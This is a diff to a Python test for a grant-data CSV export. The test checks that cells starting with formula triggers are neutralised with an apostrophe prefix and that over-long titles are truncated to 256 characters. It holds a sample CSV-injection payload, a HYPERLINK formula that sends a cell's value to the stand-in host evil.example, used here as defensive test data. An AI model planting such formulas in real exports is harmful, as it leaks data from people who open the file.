@@ -21,8 +21,10 @@ TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
 def test_carrier_typed_values_are_neutralised_and_the_file_stays_valid(call, tmp_path, trigger):  # noqa: F811
     big = Application.objects.get(call=call, requested_amount="60000.00")
     payload = f'{trigger}HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
-    big.title = payload + " " + "x" * 300  # longer than the schema's 256 characters
+    big.title = payload  # the project title holds 200 characters at most (PostgreSQL enforces it)
     big.save(update_fields=["title"])
+    call.title = "Appel " + "x" * 290  # the call's title (300 at most) is longer than the schema's 256
+    call.save(update_fields=["title"])
     big.organisation.name = payload
     big.organisation.save(update_fields=["name"])
     big.cofundings.all().delete()
@@ -35,7 +37,7 @@ def test_carrier_typed_values_are_neutralised_and_the_file_stays_valid(call, tmp
     row = next(r for r in csv.DictReader(io.StringIO(text)) if r["montant"] == "60000.00")
     for name in ("nomBeneficiaire", "objet", "attribuantsCofinanceurs"):
         assert row[name].startswith("'" + trigger), name
-    assert len(row["objet"]) == 256
+    assert len(row["dispositif"]) == 256
     # Numbers and dates are never prefixed.
     assert row["montant"] == "60000.00" and row["montantDemande"] == "60000.00"
     assert row["pourcentageSubvention"] == "1.00" and row["dateConvention"][:2] == "20"
